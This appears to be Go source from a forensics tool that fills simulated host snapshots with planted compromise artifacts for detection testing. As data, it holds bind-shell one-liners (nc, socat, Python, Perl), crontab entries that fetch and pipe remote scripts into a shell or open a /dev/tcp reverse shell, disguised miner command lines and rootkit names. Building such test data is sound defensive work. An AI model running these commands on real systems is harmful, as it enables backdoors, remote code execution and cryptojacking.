@@ -1,0 +1,484 @@
+package fleet
+
+import (
+	"fmt"
+	"math/rand/v2"
+	"slices"
+	"strings"
+
+	"github.com/diffy-dfir/diffy/payload"
+)
+
+// The attack kinds of a Sim beyond the Plant* kinds it shares with
+// Generate (PlantListener: a bind shell listening with its process;
+// PlantCrontab: persistence in a crontab; PlantKernelModule: a rootkit
+// module; PlantUID0User: a second uid-0 user; PlantAuthorizedKey: the
+// attacker's SSH key; PlantMasquerade: a process posing as a kernel
+// thread, run from /tmp, /var/tmp or /dev/shm).
+const (
+	// AttackMiner is a cryptocurrency miner renamed to pass for a system
+	// process.
+	AttackMiner = "miner"
+	// AttackRelocated is a system daemon running from a new path with its
+	// usual name and command line (sshd from /usr/local/sbin/.sshd,
+	// titled "sshd: /usr/sbin/sshd -D [listener] ..."): the genuine row
+	// is gone, the planted one replaces it (Planted.Replaced).
+	AttackRelocated = "relocated_binary"
+	// AttackOddParent is a second instance of a system daemon, with its
+	// usual name, path, command line and user, started by the role's
+	// application (a web shell's doing): only its parent tells it apart.
+	AttackOddParent = "odd_parent"
+	// AttackCampaign marks the rows of the campaign (Attacks.Campaign): a
+	// renamed miner, its crontab line and the attacker's SSH key, the same
+	// on every campaign host.
+	AttackCampaign = "campaign"
+)
+
+// AttackKinds lists every single-host attack kind a Sim plants.
+var AttackKinds = []string{PlantListener, PlantCrontab, PlantKernelModule, PlantUID0User, PlantAuthorizedKey,
+	PlantMasquerade, AttackMiner, AttackRelocated, AttackOddParent}
+
+func isAttackKind(k string) bool { return slices.Contains(AttackKinds, k) }
+
+// assignAttacks draws which slots are compromised and with what: the
+// single-host attacks on a share of the slots, the campaign on another,
+// none on an instance still booting, none in the week-earlier collection.
+func (s *Sim) assignAttacks() map[int][]string {
+	a := s.cfg.Attacks
+	out := map[int][]string{}
+	if s.cfg.WeekEarlier || (len(a.Kinds) == 0 && !a.Campaign) {
+		return out
+	}
+	r := streamRand(s.cfg.Seed, streamAttacks)
+	share := a.Share
+	if share == 0 {
+		share = between(r, 0.005, 0.03)
+	}
+	cshare := a.CampaignShare
+	if cshare == 0 {
+		cshare = between(r, 0.05, 0.09)
+	}
+	var eligible []int
+	for i := 0; i < s.cfg.Hosts; i++ {
+		if !s.identity(i).booting {
+			eligible = append(eligible, i)
+		}
+	}
+	r.Shuffle(len(eligible), func(i, j int) { eligible[i], eligible[j] = eligible[j], eligible[i] })
+	n := len(eligible)
+	k1, k2 := 0, 0
+	if len(a.Kinds) > 0 {
+		k1 = count(share, s.cfg.Hosts)
+	}
+	if a.Campaign {
+		k2 = count(cshare, s.cfg.Hosts)
+	}
+	k1, k2 = min(k1, n), min(k2, max(n-k1, 0))
+	kinds := slices.Clone(a.Kinds)
+	r.Shuffle(len(kinds), func(i, j int) { kinds[i], kinds[j] = kinds[j], kinds[i] })
+	q := 0
+	for _, slot := range eligible[:k1] {
+		per := a.PerHost
+		if per == 0 {
+			per = 1 + r.IntN(2)
+		}
+		per = min(per, len(kinds))
+		for range per {
+			out[slot] = append(out[slot], kinds[q%len(kinds)])
+			q++
+		}
+	}
+	for _, slot := range eligible[k1 : k1+k2] {
+		out[slot] = []string{AttackCampaign}
+	}
+	return out
+}
+
+// plantAttacks plants the host's attacks, each from its own stream.
+func (g *hostGen) plantAttacks() {
+	for j, kind := range g.s.attacks[g.id.slot] {
+		r := streamRand(g.s.cfg.Seed, streamAttackRows, uint64(g.id.slot), uint64(j))
+		switch kind {
+		case PlantListener:
+			g.plantListener(r)
+		case PlantCrontab:
+			g.plantCron(r, kind, cronImplant(r, g.s.cfg.GroupName))
+		case PlantKernelModule:
+			g.plantModule(r)
+		case PlantUID0User:
+			g.plantUID0(r)
+		case PlantAuthorizedKey:
+			g.plantKey(r)
+		case PlantMasquerade:
+			g.plantMasquerade(r)
+		case AttackMiner:
+			g.plantProc(r, kind, minerImplant(r), g.attackerUID(r), 1)
+		case AttackRelocated:
+			g.plantRelocated(r)
+		case AttackOddParent:
+			g.plantOddParent(r)
+		case AttackCampaign:
+			g.plantCampaign(r)
+		}
+	}
+}
+
+// record notes a planted row.
+func (g *hostGen) record(kind string, v vrow, replaced *vrow, detail string) {
+	p := Planted{Kind: kind, CommandID: commandIDs[v.cmd], Row: v.row(), Detail: detail}
+	if replaced != nil {
+		p.Replaced = replaced.row()
+	}
+	g.planted = append(g.planted, p)
+}
+
+// compromisedAt returns when the attacker started something: minutes to
+// days before the collection, after the host booted.
+func (g *hostGen) compromisedAt(r *rand.Rand) int64 {
+	t := g.at - int64(600+r.IntN(5*86400))
+	return max(t, g.boot+int64(60+r.IntN(600)))
+}
+
+// attackerUID is the user an attacker's process runs as: root, or the
+// user of the service they came in through.
+func (g *hostGen) attackerUID(r *rand.Rand) int {
+	switch r.IntN(4) {
+	case 0:
+		return 33
+	case 1:
+		if g.app.pid != 0 {
+			return g.app.uid
+		}
+	}
+	return 0
+}
+
+// usedPort reports whether the host listens on port already.
+func (g *hostGen) usedPort(port int) bool {
+	s := itoa(port)
+	return slices.ContainsFunc(g.lps, func(v vrow) bool { return v.v[5] == s })
+}
+
+// freePort draws a port in [lo, hi] the host does not listen on.
+func (g *hostGen) freePort(r *rand.Rand, lo, hi int) int {
+	for {
+		if p := intBetween(r, lo, hi); !g.usedPort(p) {
+			return p
+		}
+	}
+}
+
+// implant is an attacker's process before it lands on a host.
+type implant struct{ name, path, cmdline string }
+
+func (g *hostGen) plantProc(r *rand.Rand, kind string, im implant, uid, parent int) running {
+	t := g.compromisedAt(r)
+	g.spawn(g.pidAt(r, t), comm(im.name), im.path, im.cmdline, uid, parent, t)
+	pr := g.procs[len(g.procs)-1]
+	g.record(kind, vProc(pr), nil, "")
+	return pr
+}
+
+func (g *hostGen) plantListener(r *rand.Rand) {
+	port := g.freePort(r, 1025, 65535)
+	if chance(r, 0.3) {
+		port = pickOne(r, 4444, 1337, 31337, 8888, 9001, 4443, 2222, 6666, 5555)
+		if g.usedPort(port) {
+			port = g.freePort(r, 1025, 65535)
+		}
+	}
+	var im implant
+	switch r.IntN(6) {
+	case 0:
+		im = implant{"nc", "/usr/bin/nc.openbsd", fmt.Sprintf("nc -lvnp %d", port)}
+	case 1:
+		im = implant{"nc.traditional", "/usr/bin/nc.traditional", fmt.Sprintf("nc -l -p %d -e /bin/sh", port)}
+	case 2:
+		p := pickOne(r, "/dev/shm/socat", "/tmp/socat", "/usr/bin/socat")
+		im = implant{"socat", p, fmt.Sprintf("%s TCP-LISTEN:%d,reuseaddr,fork EXEC:/bin/bash,pty,stderr,setsid,sigint,sane", strings.TrimPrefix(p, "/usr/bin/"), port)}
+	case 3:
+		im = implant{"python3", g.python(), fmt.Sprintf("python3 -c import socket,os,pty;s=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1);s.bind(('0.0.0.0',%d));s.listen(1);c,a=s.accept();[os.dup2(c.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/bash')", port)}
+	case 4:
+		im = implant{"perl", "/usr/bin/perl", fmt.Sprintf("perl -e use Socket;$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);bind(S,sockaddr_in($p,INADDR_ANY));listen(S,5);while(accept(C,S)){if(!fork()){open(STDIN,'>&C');open(STDOUT,'>&C');open(STDERR,'>&C');exec('/bin/sh -i')}}", port)}
+	default:
+		name := randLetters(r, 4+r.IntN(4))
+		path := pickOne(r, "/tmp/.X11-unix/.", "/dev/shm/.", "/var/tmp/.") + randLetters(r, 3) + "/" + name
+		im = implant{name, path, fmt.Sprintf("%s -l %d -k %s", path, port, randLetters(r, 10))}
+	}
+	parent := 1
+	uid := g.attackerUID(r)
+	if uid != 0 && g.app.pid != 0 && chance(r, 0.5) {
+		parent = g.app.pid // spawned by the exploited service
+	}
+	p := g.plantProc(r, PlantListener, im, uid, parent)
+	addr := pickOne(r, "0.0.0.0", "::", "0.0.0.0")
+	lp := vLP(addr, port, tcp, p.name, p.path, p.cmdline, p.pid)
+	g.lps = append(g.lps, lp)
+	g.record(PlantListener, lp, nil, "")
+}
+
+// cronImplant draws an attacker's crontab line.
+func cronImplant(r *rand.Rand, group string) cronLine {
+	host := pickOne(r, publicIP(r), publicIP(r)+":"+itoa(intBetween(r, 1024, 65000)),
+		randLetters(r, 6)+".duckdns.org", "pastebin.com/raw/"+randB64(r, 8)[:8], randLetters(r, 5)+"-cdn.top")
+	url := pickOne(r, "http://", "https://", "http://") + host + "/" + pickOne(r, randLetters(r, 5)+".sh", "i.sh", "x", ".update", group+".sh")
+	var cmd string
+	switch r.IntN(6) {
+	case 0:
+		cmd = "curl -fsSL " + url + " | sh"
+	case 1:
+		cmd = "wget -q -O - " + url + " | bash"
+	case 2:
+		cmd = "(curl -fsSL " + url + " || wget -q -O- " + url + ") | bash > /dev/null 2>&1"
+	case 3:
+		cmd = "echo " + randB64(r, 40+r.IntN(60)) + " | base64 -d | bash"
+	case 4:
+		cmd = fmt.Sprintf("/bin/bash -c 'bash -i >& /dev/tcp/%s/%d 0>&1'", publicIP(r), pickOne(r, 443, 4444, 8080, 53, intBetween(r, 1024, 65000)))
+	default:
+		cmd = pickOne(r, "/dev/shm/.", "/var/tmp/.", "/tmp/.") + randLetters(r, 5) + "/" + pickOne(r, "upd", "sshd", randLetters(r, 6)) + " > /dev/null 2>&1"
+	}
+	c := cronLine{minute: pickOne(r, "*/5", "*/10", "*/3", "*/15", "*", itoa(r.IntN(60))), hour: "*", dom: "*", month: "*", dow: "*"}
+	if chance(r, 0.2) {
+		c = cronLine{event: "@reboot"}
+	}
+	switch r.IntN(4) {
+	case 0, 1:
+		c.path = "/var/spool/cron/crontabs/root"
+	case 2:
+		c.path = "/var/spool/cron/crontabs/" + pickOne(r, "www-data", "ubuntu")
+	default:
+		c.path = "/etc/cron.d/" + pickOne(r, "sysstat-", "apt-compat-", "php", "certbot-", "0") + randLetters(r, 3)
+		cmd = "root " + cmd
+	}
+	c.command = cmd
+	return c
+}
+
+func publicIP(r *rand.Rand) string {
+	return fmt.Sprintf("%d.%d.%d.%d", pickOne(r, 45, 91, 103, 138, 185, 193, 194, 2+r.IntN(220)), r.IntN(256), r.IntN(256), 1+r.IntN(254))
+}
+
+func (g *hostGen) plantCron(_ *rand.Rand, kind string, c cronLine) {
+	g.crons = append(g.crons, c)
+	g.record(kind, vCron(c), nil, "")
+}
+
+// rootkitNames are the names rootkit modules load under: known ones, and
+// names made to look like a driver's.
+var rootkitNames = []string{"diamorphine", "reptile", "reptile_module", "suterusu", "kovid", "nuk3gh0st", "brokepkg", "rkduck"}
+
+func (g *hostGen) plantModule(r *rand.Rand) {
+	name := pickOne(r, rootkitNames...)
+	if chance(r, 0.6) {
+		name = pickOne(r, "nf_", "ipt_", "hid_", "snd_", "ip6_", "usb_", "vmw_", "xt_", "crc_") + randLetters(r, 3+r.IntN(5))
+	}
+	m := modLine{name, 16384 + 4096*r.IntN(24), "-"}
+	g.mods = append(g.mods, m)
+	g.plantedMod = append(g.plantedMod, len(g.mods)-1)
+}
+
+func (g *hostGen) plantUID0(r *rand.Rand) {
+	name := pickOne(r, "sysadm", "support", "backup", "svc", "toor", "admin", "mysql", "operator", "ftpuser", "systemd-sync") +
+		pickOne(r, "", "", randLetters(r, 1), itoa(r.IntN(10)))
+	dir := pickOne(r, "/root", "/home/"+name, "/var/tmp/."+randLetters(r, 3), "/usr/games")
+	u := simUser{0, 0, name, pickOne(r, "", "", name, "system"), dir, pickOne(r, "/bin/bash", "/bin/sh", "/bin/bash")}
+	if chance(r, 0.5) {
+		g.users = append(g.users, u)
+	} else {
+		g.users = slices.Insert(g.users, 1, u) // right after root, as an edit of /etc/passwd puts it
+	}
+	g.record(PlantUID0User, vUser(u), nil, "")
+	// The standard pack joins users and keys on the uid: root's keys now
+	// show for the new user too.
+	for _, k := range g.keys {
+		if k.dir == "/root" || k.dir == dir {
+			g.record(PlantUID0User, vrow{cmd: cKey, v: [8]string{k.alg, k.key, k.dir + "/.ssh/" + k.file, name}}, nil, "root's key, joined on uid 0")
+		}
+	}
+}
+
+// attackerKey draws an attacker's SSH key.
+func attackerKey(r *rand.Rand) (alg, key string) {
+	switch r.IntN(3) {
+	case 0:
+		return "ssh-rsa", randRSA(r)
+	case 1:
+		return "ecdsa-sha2-nistp256", randECDSA(r)
+	}
+	return "ssh-ed25519", randEd25519(r)
+}
+
+func (g *hostGen) plantKey(r *rand.Rand) {
+	alg, key := attackerKey(r)
+	dir := pickOne(r, "/root", "/root", "/home/ubuntu", "/home/deploy")
+	file := pickOne(r, "authorized_keys", "authorized_keys", "authorized_keys2")
+	g.addKey(PlantAuthorizedKey, simKey{dir, alg, key, file})
+}
+
+// addKey adds an authorized key and records the rows it makes: one per
+// user of the home's owner's uid.
+func (g *hostGen) addKey(kind string, k simKey) {
+	g.keys = append(g.keys, k)
+	uid := -1
+	for _, u := range g.users {
+		if u.dir == k.dir {
+			uid = u.uid
+			break
+		}
+	}
+	for _, u := range g.users {
+		if u.uid == uid {
+			g.record(kind, vrow{cmd: cKey, v: [8]string{k.alg, k.key, k.dir + "/.ssh/" + k.file, u.name}}, nil, "")
+		}
+	}
+}
+
+func (g *hostGen) plantMasquerade(r *rand.Rand) {
+	thread := pickOne(r, fmt.Sprintf("kworker/%d:%d", r.IntN(g.ncpu), r.IntN(4)), fmt.Sprintf("kworker/u%d:%d", 2*g.ncpu, r.IntN(8)),
+		"kthreadd", "ksoftirqd/0", "kswapd0", fmt.Sprintf("kworker/%d:0H", r.IntN(g.ncpu)), "migration/0")
+	dir := pickOne(r, "/tmp/.", "/dev/shm/.", "/var/tmp/.", "/tmp/.ICE-unix/.")
+	path := dir + randLetters(r, 2+r.IntN(4)) + "/" + pickOne(r, "kworker", "kthreadd", "ksoftirqd", randLetters(r, 6))
+	p := g.plantProc(r, PlantMasquerade, implant{thread, path, "[" + thread + "]"}, pickOne(r, 0, 0, 33), 1)
+	if chance(r, 0.3) { // a masquerade that is also a backdoor
+		lp := vLP("0.0.0.0", g.freePort(r, 1025, 65535), tcp, p.name, p.path, p.cmdline, p.pid)
+		g.lps = append(g.lps, lp)
+		g.record(PlantMasquerade, lp, nil, "")
+	}
+}
+
+// minerImplant draws a miner renamed to pass for something else.
+func minerImplant(r *rand.Rand) implant {
+	name := pickOne(r, "kswapd0", "kdevtmpfsi", "dbused", "sysupdate", "networkservice", "systemd-helper", "xmrig", ".sshd", "cronds", "kthreaddi", "php-fpm")
+	path := pickOne(r, "/tmp/", "/var/tmp/.", "/dev/shm/.", "/usr/lib/.", "/etc/.", "/var/lib/.") + pickOne(r, name, randLetters(r, 5)) + "/" + name
+	if chance(r, 0.3) {
+		path = pickOne(r, "/tmp/", "/usr/bin/.", "/var/tmp/") + name
+	}
+	var cmd string
+	switch r.IntN(3) {
+	case 0:
+		cmd = path
+	case 1:
+		dir := path[:strings.LastIndexByte(path, '/')]
+		cmd = path + " -c " + dir + "/" + pickOne(r, "config.json", ".cfg", "c.json")
+	default:
+		pool := pickOne(r, "pool.supportxmr.com:443", "xmr.2miners.com:2222", "gulf.moneroocean.stream:10128", "pool.hashvault.pro:443",
+			publicIP(r)+":"+itoa(pickOne(r, 3333, 5555, 7777, 14444)))
+		wallet := "4" + randBase58(r, 94)
+		cmd = fmt.Sprintf("%s -o %s -u %s -p %s -k --donate-level 1 --cpu-max-threads-hint %d -B", pickOne(r, path, "./"+name), pool, wallet,
+			pickOne(r, "x", randLetters(r, 6)), pickOne(r, 50, 75, 90, 100))
+		if chance(r, 0.4) {
+			cmd += " --tls"
+		}
+	}
+	return implant{name, path, cmd}
+}
+
+const base58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
+
+func randBase58(r *rand.Rand, n int) string {
+	b := make([]byte, n)
+	for i := range b {
+		b[i] = base58[r.IntN(len(base58))]
+	}
+	return string(b)
+}
+
+// relocatable are the daemons an attacker replaces, and where the
+// replacement runs from.
+var relocatable = []struct {
+	name  string
+	paths []string
+}{
+	{"sshd", []string{"/usr/local/sbin/.sshd", "/usr/sbin/.sshd", "/dev/shm/sshd", "/usr/lib/x86_64-linux-gnu/sshd", "/usr/local/bin/sshd"}},
+	{"cron", []string{"/usr/local/bin/cron", "/var/tmp/.cron", "/usr/sbin/.cron", "/usr/lib/cron/cron"}},
+	{"rsyslogd", []string{"/usr/lib/rsyslog/.rsyslogd", "/usr/local/sbin/rsyslogd", "/tmp/rsyslogd"}},
+	{"systemd-logind", []string{"/usr/lib/systemd/.systemd-logind", "/lib/systemd/systemd-logind", "/usr/local/lib/systemd-logind"}},
+	{"dbus-daemon", []string{"/usr/local/bin/dbus-daemon", "/usr/lib/dbus-1.0/.dbus-daemon"}},
+}
+
+func (g *hostGen) plantRelocated(r *rand.Rand) {
+	w := []float64{5, 2, 1, 1, 1}
+	target := relocatable[pickWeighted(r, w)]
+	i := slices.IndexFunc(g.procs, func(p running) bool { return p.name == target.name && p.parent == 1 })
+	if i < 0 {
+		i = slices.IndexFunc(g.procs, func(p running) bool { return p.name == "sshd" })
+		target = relocatable[0]
+	}
+	old := g.procs[i]
+	nu := old
+	nu.path = pickOne(r, target.paths...)
+	nu.start = g.compromisedAt(r)
+	nu.pid = g.pidAt(r, nu.start)
+	g.procs[i] = nu
+	ov, nv := vProc(old), vProc(nu)
+	g.record(AttackRelocated, nv, &ov, "")
+	for j, l := range g.lps {
+		if l.v[4] == itoa(old.pid) {
+			nl := vLP(l.v[0], atoiOr(l.v[5]), l.v[6], nu.name, nu.path, nu.cmdline, nu.pid)
+			g.lps[j] = nl
+			g.record(AttackRelocated, nl, &l, "")
+		}
+	}
+	if target.name == "sshd" {
+		g.sshd = nu.proc
+	}
+}
+
+// oddParentDaemons are the daemons a second, planted instance copies.
+var oddParentDaemons = []string{"cron", "atd", "rsyslogd", "irqbalance", "systemd-logind", "dbus-daemon", "sshd"}
+
+func (g *hostGen) plantOddParent(r *rand.Rand) {
+	order := r.Perm(len(oddParentDaemons))
+	for _, k := range order {
+		i := slices.IndexFunc(g.procs, func(p running) bool { return p.name == oddParentDaemons[k] && p.parent == 1 })
+		if i < 0 {
+			continue
+		}
+		d := g.procs[i]
+		parent := g.app
+		if len(g.appWorkers) > 0 && chance(r, 0.5) {
+			parent = g.appWorkers[r.IntN(len(g.appWorkers))]
+		}
+		if parent.pid == 0 {
+			parent = g.cron
+		}
+		t := g.compromisedAt(r)
+		p := running{proc: proc{pid: g.pidAt(r, t), name: d.name, path: d.path, cmdline: d.cmdline, uid: d.uid}, parent: parent.pid, start: t}
+		g.procs = append(g.procs, p)
+		g.record(AttackOddParent, vProc(p), nil, fmt.Sprintf("parent is %s (pid %d, %s), not systemd", parent.name, parent.pid, parent.path))
+		return
+	}
+}
+
+// campaignRows is the campaign's implant, the same on every host.
+type campaignRows struct {
+	miner       implant
+	uid         int
+	cron        cronLine
+	keyAlg, key string
+}
+
+func newCampaign(s *Sim) campaignRows {
+	r := streamRand(s.cfg.Seed, streamAttackRows, 1<<62)
+	c := campaignRows{miner: minerImplant(r), uid: pickOne(r, 0, 0, 33)}
+	c.cron = cronImplant(r, s.cfg.GroupName)
+	c.keyAlg, c.key = attackerKey(r)
+	return c
+}
+
+func (g *hostGen) plantCampaign(r *rand.Rand) {
+	c := &g.s.camp
+	g.plantProc(r, AttackCampaign, c.miner, c.uid, 1)
+	g.plantCron(r, AttackCampaign, c.cron)
+	g.addKey(AttackCampaign, simKey{"/root", c.keyAlg, c.key, "authorized_keys"})
+}
+
+// recordModules records the planted modules once their addresses are
+// known: rows are the host's kernel_modules rows, newest first.
+func (g *hostGen) recordModules(rows []vrow) {
+	for _, i := range g.plantedMod {
+		v := rows[len(g.mods)-1-i]
+		g.planted = append(g.planted, Planted{Kind: PlantKernelModule, CommandID: payload.KernelModules, Row: v.row()})
+	}
+	g.plantedMod = nil
+}
